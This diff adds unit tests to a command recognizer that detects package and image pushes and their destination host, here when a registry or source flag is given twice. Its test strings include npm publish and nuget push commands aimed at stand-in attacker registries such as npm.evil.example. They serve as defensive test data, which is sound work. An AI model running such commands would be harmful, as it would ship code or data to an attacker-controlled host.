@@ -75,3 +75,24 @@ describe('push argv shapes found by review', () => {
     expect(recognize('docker-compose', '--dry-run publish ghcr.io/evil/app:1')?.kind).not.toBe('push');
   });
 });
+
+describe('a destination flag given twice (review of 5127526)', () => {
+  // The parsers take the last (pflag, nopt, argparse); the first was read, an entry for it exempted the push.
+  it('names no host when its occurrences disagree', () => {
+    expect(
+      pushOf('npm', 'publish --registry https://registry.npmjs.org/ --registry https://npm.evil.example/'),
+    ).toEqual({ remote: null, host: null, declaredIn: null });
+    expect(pushOf('npm', 'publish --registry https://npm.evil.example/ --registry https://npm.evil.example/')).toEqual({
+      remote: null,
+      host: 'npm.evil.example',
+      declaredIn: null,
+    });
+  });
+
+  it('is a folder feed only when every occurrence names a folder', () => {
+    expect(recognize('dotnet', 'nuget push x.nupkg -s ./feed -s /srv/feed')).toBeNull();
+    expect(recognize('dotnet', 'nuget push x.nupkg -s ./feed -s https://nuget.evil.example/v3/index.json')?.kind).toBe(
+      'push',
+    );
+  });
+});
